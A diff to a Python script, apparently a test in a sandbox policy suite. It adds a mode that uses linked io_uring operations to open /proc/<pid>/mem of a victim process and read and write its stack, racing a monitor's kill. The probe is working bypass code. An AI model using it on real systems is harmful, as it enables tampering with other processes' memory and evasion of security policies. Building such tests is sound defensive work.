@@ -4,13 +4,17 @@
 # relative to a /proc/<pid> descriptor into a normal descriptor, read and written with
 # pread/pwrite; IORING_OP_OPENAT2 into a direct descriptor (a slot of the ring's own file table,
 # never in the process's), read and written by IORING_OP_READ/WRITE on that slot.
+# LINKED=1: the second way in one submission, the read linked to the open and the write to the
+# read (IOSQE_IO_LINK): the kernel issues each as the one before completes, before the submitter
+# is back in user space, where a kill sent at the open's completion would land. The ring is made
+# before the child that submits, so its completions are read even if that child dies.
 import ctypes, struct
 from _common import *
 
 yama_refuses("open")
 VICTIM = int(os.environ["VICTIM_PID"])
 OPENAT, READ, WRITE, OPENAT2 = 18, 22, 23, 28
-IOSQE_FIXED_FILE = 1
+IOSQE_FIXED_FILE, IOSQE_IO_LINK = 1, 4
 
 
 def stack_end():
@@ -66,6 +70,35 @@ def direct():
     return f"opened, read {got} bytes of its stack, wrote {put if put >= 0 else err(put)} back"
 
 
+def linked():
+    end = stack_end()
+    if not end:
+        unsupported("no [stack] in the victim's maps")
+    try:
+        ring = Ring()
+    except OSError as e:
+        unsupported(f"{e.strerror}: no io_uring for this user here")
+    r = ring.register_files([-1])
+    if r < 0:
+        unsupported(f"IORING_REGISTER_FILES: {err(r)}")
+    path = ctypes.create_string_buffer(f"/proc/{VICTIM}/mem".encode())
+    how = ctypes.create_string_buffer(struct.pack("=QQQ", os.O_RDWR, 0, 0))  # struct open_how
+    buf = ctypes.create_string_buffer(16)
+    chain = [dict(opcode=OPENAT2, fd=-100, addr=ctypes.addressof(path), length=24, off=ctypes.addressof(how), file_index=1, flags=IOSQE_IO_LINK),
+             dict(opcode=READ, fd=0, flags=IOSQE_FIXED_FILE | IOSQE_IO_LINK, addr=ctypes.addressof(buf), length=16, off=end - 16),
+             dict(opcode=WRITE, fd=0, flags=IOSQE_FIXED_FILE, addr=ctypes.addressof(buf), length=16, off=end - 16)]
+    said, how_ = in_child(lambda: json.dumps(ring.submit(chain)))
+    got = dict(ring.reap())
+    if not got and said.startswith("["):
+        got = dict(json.loads(said))  # the child lived, and reaped them
+    if got.get(0) == -errno.EINVAL:
+        unsupported("IORING_OP_OPENAT2 into a direct descriptor: EINVAL (5.15+)")
+    res = [got[i] if got.get(i, -1) >= 0 else err(got[i]) if i in got else "no completion" for i in range(3)]
+    report(got.get(1, -1) == 16, f"/proc/{VICTIM}/mem (outside the policy) through io_uring, one submission: IORING_OP_OPENAT2 → direct descriptor {res[0]}, then linked: read {res[1]} bytes of its stack, wrote {res[2]} back; child {how_}")
+
+
+if os.environ.get("LINKED") == "1":
+    linked()  # reports: ends the attack
 try:
     Ring()
 except OSError as e:
